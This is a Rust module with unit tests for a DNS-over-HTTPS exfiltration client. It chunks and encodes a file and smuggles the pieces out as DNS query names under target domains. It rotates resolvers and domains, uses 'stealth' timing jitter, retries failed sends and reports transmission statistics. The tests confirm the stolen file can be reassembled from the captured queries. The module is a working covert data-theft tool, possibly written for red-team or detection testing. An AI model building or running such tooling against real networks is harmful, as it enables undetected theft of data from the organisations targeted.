//! Exfiltration client: prepares the payload, schedules queries per the
//! configured timing pattern, rotates resolvers and domains, retries failed
//! sends, and reports transmission statistics.

pub mod config;

pub use config::{ConfigError, ExfilConfig, TimingPattern};

use crate::chunk::{self, ChunkEnvelope, ChunkError};
use crate::codec;
use crate::dohwire::{
    self, DnsQuestion, DohRequest, HttpMethod, QType, WireError,
};
use rand::distributions::{Distribution, Uniform};
use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;
use std::io::Write;

/// Well-known names probed by the connectivity check.
const CONNECTIVITY_NAMES: [&str; 3] = ["example.com", "cloudflare.com", "google.com"];
/// Chunk log lines show at most this many characters of header plus data.
const LOG_PREFIX_CHARS: usize = 49;
const PROGRESS_EVERY: usize = 10;

/// Sends one DoH request and returns the response message bytes.
pub trait Transport {
    fn send(&mut self, request: &DohRequest) -> Result<Vec<u8>, TransportError>;
}

#[derive(Debug, Clone, thiserror::Error, PartialEq, Eq)]
#[error("{0}")]
pub struct TransportError(pub String);

/// Time source; the harness supplies a simulated clock, production code a
/// real one. `sleep` advances `now` by at least `seconds`.
pub trait Clock {
    fn now(&self) -> f64;
    fn sleep(&mut self, seconds: f64);
}

/// Final counters of one exfiltration session.
#[derive(Debug, Clone, PartialEq)]
pub struct TransmissionStats {
    pub duration: f64,
    pub total_chunks: usize,
    pub successful: usize,
    pub failed: usize,
    pub retries: usize,
    pub success_rate: f64,
    pub throughput: f64,
    pub total_bytes: usize,
}

#[derive(Debug, thiserror::Error)]
pub enum ExfilError {
    #[error(transparent)]
    Chunk(#[from] ChunkError),
    #[error(transparent)]
    Wire(#[from] WireError),
    #[error("resolver unreachable: {0}")]
    Unreachable(TransportError),
    #[error("log write failed: {0}")]
    Log(#[from] std::io::Error),
}

/// Probe the resolver with A queries for well-known names; reachable means
/// at least one well-formed DNS response came back.
pub fn connectivity_check(
    transport: &mut dyn Transport,
    resolver_url: &str,
) -> Result<(), ExfilError> {
    let mut last_error = TransportError("no probe sent".into());
    for (id, name) in CONNECTIVITY_NAMES.iter().enumerate() {
        let q = DnsQuestion {
            qname: (*name).into(),
            qtype: QType::A,
        };
        let wire = dohwire::encode_query(&q, id as u16).expect("static names are valid");
        match transport.send(&dohwire::build_doh_post(&wire, resolver_url)) {
            Ok(response) => {
                if dohwire::decode_response(&response)
                    .map(|s| s.is_response)
                    .unwrap_or(false)
                {
                    return Ok(());
                }
                last_error = TransportError(format!("malformed response from {name}"));
            }
            Err(e) => last_error = e,
        }
    }
    Err(ExfilError::Unreachable(last_error))
}

/// Per-query delays for `n` queries under the given timing pattern.
/// Deterministic for a given seed.
pub fn schedule_delays(
    pattern: TimingPattern,
    base_delay: f64,
    variance: f64,
    burst_size: usize,
    n: usize,
    rng_seed: u64,
) -> Vec<f64> {
    let mut rng = ChaCha8Rng::seed_from_u64(rng_seed);
    match pattern {
        TimingPattern::Regular => vec![base_delay; n],
        TimingPattern::Random => {
            let lo = (base_delay - variance).max(0.0);
            let dist = Uniform::new_inclusive(lo, base_delay + variance);
            (0..n).map(|_| dist.sample(&mut rng)).collect()
        }
        TimingPattern::Burst => (0..n)
            .map(|i| {
                if i > 0 && i % burst_size == 0 {
                    base_delay
                } else {
                    0.0
                }
            })
            .collect(),
        TimingPattern::Stealth => {
            let dist = Uniform::new_inclusive(base_delay - variance, base_delay + variance);
            (0..n).map(|_| dist.sample(&mut rng).max(0.0)).collect()
        }
    }
}

/// Exfiltrate `file` according to `cfg`, logging progress to `log`.
/// Returns the final statistics and the session identifier.
pub fn exfiltrate(
    file: &[u8],
    cfg: &ExfilConfig,
    transport: &mut dyn Transport,
    clock: &mut dyn Clock,
    rng_seed: u64,
    log: &mut dyn Write,
) -> Result<(TransmissionStats, String), ExfilError> {
    let payload = codec::prepare(file, &cfg.pipeline_config());
    let chunks = chunk::split(&payload, cfg.chunk_size)?;
    let framing = cfg.framing_config();
    chunk::validate_framing(&framing)?;

    let session_id = chunk::new_session_id(clock.now() as u64);
    let delays = schedule_delays(
        cfg.timing_pattern,
        cfg.base_delay,
        cfg.delay_variance,
        cfg.burst_size,
        chunks.len(),
        rng_seed,
    );
    let estimated: f64 = delays.iter().sum();
    let mut label_rng = ChaCha8Rng::seed_from_u64(rng_seed);

    let start = clock.now();
    let total = chunks.len();
    let mut successful = 0usize;
    let mut failed = 0usize;
    let mut retries = 0usize;

    for (i, data) in chunks.into_iter().enumerate() {
        clock.sleep(delays[i]);
        let env = ChunkEnvelope {
            session_id: session_id.clone(),
            seq: i as u16,
            total: total as u16,
            data,
        };
        let domain_index = if cfg.domain_rotation {
            i % cfg.target_domains.len()
        } else {
            0
        };
        let fqdn = chunk::frame(&env, &framing, domain_index, &mut label_rng)?;
        let question = DnsQuestion {
            qname: fqdn,
            qtype: QType::A,
        };
        let wire = dohwire::encode_query(&question, env.seq)?;
        let resolver = &cfg.doh_servers[i % cfg.doh_servers.len()];
        let request = match cfg.http_method {
            HttpMethod::Get => dohwire::build_doh_get(&wire, resolver),
            HttpMethod::Post => dohwire::build_doh_post(&wire, resolver),
        };

        let mut sent = false;
        let mut chunk_retries = 0usize;
        loop {
            match transport.send(&request) {
                Ok(_) => {
                    sent = true;
                    break;
                }
                Err(_) => {
                    if cfg
                        .max_retries
                        .is_some_and(|cap| chunk_retries >= cap as usize)
                    {
                        break;
                    }
                    chunk_retries += 1;
                }
            }
        }
        retries += chunk_retries;
        if sent {
            successful += 1;
            let shown = format!(
                "{}-{:04}-{:04}-{}",
                env.session_id, env.seq, env.total, env.data
            );
            let prefix: String = shown.chars().take(LOG_PREFIX_CHARS).collect();
            writeln!(log, "[{}/{}] Sent chunk: {}...", i + 1, total, prefix)?;
        } else {
            failed += 1;
            writeln!(log, "[{}/{}] Failed chunk after retry cap", i + 1, total)?;
        }

        let done = i + 1;
        if done % PROGRESS_EVERY == 0 && done < total {
            let elapsed = clock.now() - start;
            let eta = elapsed / done as f64 * (total - done) as f64;
            writeln!(
                log,
                "Progress: {:.1}% ({}/{}) - ETA: {:.1}s",
                100.0 * done as f64 / total as f64,
                done,
                total,
                eta
            )?;
        }
    }

    let duration = clock.now() - start;
    let stats = TransmissionStats {
        duration,
        total_chunks: total,
        successful,
        failed,
        retries,
        success_rate: if total > 0 {
            100.0 * successful as f64 / total as f64
        } else {
            100.0
        },
        throughput: if duration > 0.0 {
            file.len() as f64 / duration
        } else {
            0.0
        },
        total_bytes: file.len(),
    };
    writeln!(log)?;
    writeln!(
        log,
        "Transmission complete: {:.1}% success rate",
        stats.success_rate
    )?;
    writeln!(
        log,
        "Actual time: {:.1}s (estimated: {:.1}s)",
        duration, estimated
    )?;
    writeln!(log)?;
    write!(log, "{}", render_stats(&stats))?;
    Ok((stats, session_id))
}

/// The closing statistics block of the client log.
pub fn render_stats(stats: &TransmissionStats) -> String {
    format!(
        "EXFILTRATION STATISTICS:\n\
         Duration: {:.2} seconds\n\
         Total chunks: {}\n\
         Successful: {}\n\
         Failed: {}\n\
         Retries: {}\n\
         Success rate: {:.1}%\n\
         Throughput: {:.2} bytes/sec\n\
         Total bytes: {}\n",
        stats.duration,
        stats.total_chunks,
        stats.successful,
        stats.failed,
        stats.retries,
        stats.success_rate,
        stats.throughput,
        stats.total_bytes
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::codec::Encoding;

    struct TestClock {
        t: f64,
    }

    impl Clock for TestClock {
        fn now(&self) -> f64 {
            self.t
        }
        fn sleep(&mut self, seconds: f64) {
            self.t += seconds;
        }
    }

    fn clock() -> TestClock {
        TestClock { t: 1_755_091_000.0 }
    }

    struct Recording {
        sent: Vec<DohRequest>,
    }

    impl Transport for Recording {
        fn send(&mut self, request: &DohRequest) -> Result<Vec<u8>, TransportError> {
            self.sent.push(request.clone());
            let wire = request
                .body
                .clone()
                .or_else(|| {
                    request
                        .query_param
                        .as_deref()
                        .and_then(|p| dohwire::decode_doh_get_param(p).ok())
                })
                .unwrap();
            let (q, id) = dohwire::decode_query(&wire).unwrap();
            Ok(dohwire::encode_answer(&q, id).unwrap())
        }
    }

    struct FailOnce {
        inner: Recording,
        last_failed: Option<DohRequest>,
    }

    impl Transport for FailOnce {
        fn send(&mut self, request: &DohRequest) -> Result<Vec<u8>, TransportError> {
            if self.last_failed.as_ref() != Some(request) {
                self.last_failed = Some(request.clone());
                return Err(TransportError("injected failure".into()));
            }
            self.inner.send(request)
        }
    }

    struct AlwaysFail;

    impl Transport for AlwaysFail {
        fn send(&mut self, _request: &DohRequest) -> Result<Vec<u8>, TransportError> {
            Err(TransportError("down".into()))
        }
    }

    fn test_cfg() -> ExfilConfig {
        ExfilConfig {
            name: "test".into(),
            description: String::new(),
            doh_servers: vec![
                "https://a.local/dns-query".into(),
                "https://b.local/dns-query".into(),
            ],
            target_domains: vec!["exfill.local".into(), "alt.local".into()],
            chunk_size: 30,
            encoding: Encoding::Base64Url,
            timing_pattern: TimingPattern::Regular,
            base_delay: 0.5,
            delay_variance: 0.0,
            burst_size: 10,
            compression: false,
            encryption_key: None,
            subdomain_randomization: false,
            padding: false,
            domain_rotation: true,
            test_files: vec![],
            max_retries: None,
            http_method: HttpMethod::Post,
            rng_seed: 7,
            notes: String::new(),
        }
    }

    #[test]
    fn regular_delays_repeat_the_base() {
        assert_eq!(
            schedule_delays(TimingPattern::Regular, 0.5, 0.0, 1, 3, 1),
            [0.5, 0.5, 0.5]
        );
    }

    #[test]
    fn burst_delays_sit_at_burst_boundaries() {
        let delays = schedule_delays(TimingPattern::Burst, 0.5, 0.0, 10, 25, 1);
        for (i, d) in delays.iter().enumerate() {
            if i == 10 || i == 20 {
                assert_eq!(*d, 0.5, "index {i}");
            } else {
                assert_eq!(*d, 0.0, "index {i}");
            }
        }
    }

    #[test]
    fn random_delays_stay_in_range_with_plausible_mean() {
        let delays = schedule_delays(TimingPattern::Random, 2.5, 5.0, 1, 1000, 99);
        assert!(delays.iter().all(|d| (0.0..=7.5).contains(d)));
        let mean = delays.iter().sum::<f64>() / delays.len() as f64;
        assert!((1.5..=4.0).contains(&mean), "mean {mean}");
    }

    #[test]
    fn stealth_delays_follow_the_plus_minus_window() {
        let delays = schedule_delays(TimingPattern::Stealth, 8.0, 3.0, 1, 500, 3);
        assert!(delays.iter().all(|d| (5.0..=11.0).contains(d)));
    }

    #[test]
    fn stealth_clamps_negative_draws_to_zero() {
        let delays = schedule_delays(TimingPattern::Stealth, 1.0, 3.0, 1, 500, 3);
        assert!(delays.iter().all(|d| (0.0..=4.0).contains(d)));
        assert!(delays.contains(&0.0));
    }

    #[test]
    fn delays_are_deterministic_per_seed() {
        let a = schedule_delays(TimingPattern::Random, 2.5, 5.0, 1, 50, 42);
        let b = schedule_delays(TimingPattern::Random, 2.5, 5.0, 1, 50, 42);
        let c = schedule_delays(TimingPattern::Random, 2.5, 5.0, 1, 50, 43);
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn connectivity_succeeds_on_answering_transport() {
        let mut t = Recording { sent: vec![] };
        assert!(connectivity_check(&mut t, "https://doh.local/dns-query").is_ok());
    }

    #[test]
    fn connectivity_fails_when_all_sends_fail() {
        let mut t = AlwaysFail;
        assert!(matches!(
            connectivity_check(&mut t, "https://doh.local/dns-query"),
            Err(ExfilError::Unreachable(_))
        ));
    }

    #[test]
    fn connectivity_tolerates_partial_failures() {
        struct FailTwo {
            calls: usize,
            inner: Recording,
        }
        impl Transport for FailTwo {
            fn send(&mut self, request: &DohRequest) -> Result<Vec<u8>, TransportError> {
                self.calls += 1;
                if self.calls <= 2 {
                    Err(TransportError("flaky".into()))
                } else {
                    self.inner.send(request)
                }
            }
        }
        let mut t = FailTwo {
            calls: 0,
            inner: Recording { sent: vec![] },
        };
        assert!(connectivity_check(&mut t, "https://doh.local/dns-query").is_ok());
    }

    #[test]
    fn resolvers_and_domains_rotate_round_robin() {
        let cfg = test_cfg();
        let mut t = Recording { sent: vec![] };
        let mut log = Vec::new();
        let file = vec![7u8; 200];
        let (stats, session) =
            exfiltrate(&file, &cfg, &mut t, &mut clock(), 7, &mut log).unwrap();
        assert_eq!(session, "17550910");
        assert_eq!(stats.successful, stats.total_chunks);
        for (i, req) in t.sent.iter().enumerate() {
            let expected = &cfg.doh_servers[i % 2];
            assert_eq!(&req.url, expected, "query {i}");
            let (q, id) = dohwire::decode_query(req.body.as_ref().unwrap()).unwrap();
            assert_eq!(id as usize, i);
            let expected_domain = &cfg.target_domains[i % 2];
            assert!(q.qname.ends_with(expected_domain.as_str()), "query {i}");
        }
    }

    #[test]
    fn identical_inputs_give_identical_query_sequences() {
        let cfg = test_cfg();
        let file = vec![3u8; 500];
        let run = |seed| {
            let mut t = Recording { sent: vec![] };
            let mut log = Vec::new();
            exfiltrate(&file, &cfg, &mut t, &mut clock(), seed, &mut log).unwrap();
            t.sent
        };
        assert_eq!(run(7), run(7));
    }

    #[test]
    fn one_failure_per_chunk_is_absorbed_by_retries() {
        let mut cfg = test_cfg();
        cfg.max_retries = Some(3);
        let mut t = FailOnce {
            inner: Recording { sent: vec![] },
            last_failed: None,
        };
        let mut log = Vec::new();
        let file = vec![1u8; 120];
        let (stats, _) = exfiltrate(&file, &cfg, &mut t, &mut clock(), 1, &mut log).unwrap();
        assert_eq!(stats.failed, 0);
        assert_eq!(stats.successful, stats.total_chunks);
        assert_eq!(stats.retries, stats.total_chunks);
        assert_eq!(stats.success_rate, 100.0);
    }

    #[test]
    fn retry_cap_marks_chunks_failed() {
        let mut cfg = test_cfg();
        cfg.max_retries = Some(2);
        let mut t = AlwaysFail;
        let mut log = Vec::new();
        let file = vec![1u8; 60];
        let (stats, _) = exfiltrate(&file, &cfg, &mut t, &mut clock(), 1, &mut log).unwrap();
        assert_eq!(stats.successful, 0);
        assert_eq!(stats.failed, stats.total_chunks);
        assert_eq!(stats.retries, 2 * stats.total_chunks);
        assert_eq!(stats.success_rate, 0.0);
    }

    #[test]
    fn empty_payload_reports_the_documented_conventions() {
        let cfg = test_cfg();
        let mut t = Recording { sent: vec![] };
        let mut log = Vec::new();
        let (stats, _) = exfiltrate(&[], &cfg, &mut t, &mut clock(), 1, &mut log).unwrap();
        assert_eq!(stats.total_chunks, 0);
        assert_eq!(stats.success_rate, 100.0);
        assert_eq!(stats.throughput, 0.0);
        assert_eq!(stats.total_bytes, 0);
        assert!(t.sent.is_empty());
    }

    #[test]
    fn chunk_lines_and_stats_block_follow_the_log_format() {
        let cfg = test_cfg();
        let mut t = Recording { sent: vec![] };
        let mut log = Vec::new();
        let file = vec![9u8; 300];
        let (stats, _) = exfiltrate(&file, &cfg, &mut t, &mut clock(), 1, &mut log).unwrap();
        let text = String::from_utf8(log).unwrap();
        let first = text.lines().next().unwrap();
        assert!(
            first.starts_with(&format!("[1/{}] Sent chunk: 17550910-0000-", stats.total_chunks)),
            "unexpected first line: {first}"
        );
        assert!(first.ends_with("..."));
        assert!(text.contains("Progress: "));
        assert!(text.contains("Transmission complete: 100.0% success rate"));
        assert!(text.contains("EXFILTRATION STATISTICS:"));
        assert!(text.contains(&format!("Total bytes: {}", file.len())));
    }

    #[test]
    fn stats_block_renders_reference_values() {
        let stats = TransmissionStats {
            duration: 44.33,
            total_chunks: 671,
            successful: 671,
            failed: 0,
            retries: 0,
            success_rate: 100.0,
            throughput: 15742.0 / 44.33,
            total_bytes: 15742,
        };
        let block = render_stats(&stats);
        let expected = "EXFILTRATION STATISTICS:\n\
                        Duration: 44.33 seconds\n\
                        Total chunks: 671\n\
                        Successful: 671\n\
                        Failed: 0\n\
                        Retries: 0\n\
                        Success rate: 100.0%\n\
                        Throughput: 355.11 bytes/sec\n\
                        Total bytes: 15742\n";
        assert_eq!(block, expected);
    }

    #[test]
    fn reassembled_queries_reproduce_the_file() {
        let mut cfg = test_cfg();
        cfg.compression = true;
        cfg.encryption_key = Some("key".into());
        cfg.subdomain_randomization = true;
        cfg.padding = true;
        let mut t = Recording { sent: vec![] };
        let mut log = Vec::new();
        let file: Vec<u8> = (0..1000u32).map(|i| (i % 251) as u8).collect();
        exfiltrate(&file, &cfg, &mut t, &mut clock(), 5, &mut log).unwrap();
        let framing = cfg.framing_config();
        let mut envs: Vec<ChunkEnvelope> = t
            .sent
            .iter()
            .map(|req| {
                let (q, _) = dohwire::decode_query(req.body.as_ref().unwrap()).unwrap();
                chunk::parse(&q.qname, &framing).unwrap().unwrap()
            })
            .collect();
        envs.sort_by_key(|e| e.seq);
        let encoded: String = envs.iter().map(|e| e.data.as_str()).collect();
        let recovered = codec::recover(&encoded, &cfg.pipeline_config()).unwrap();
        assert_eq!(recovered, file);
    }
}
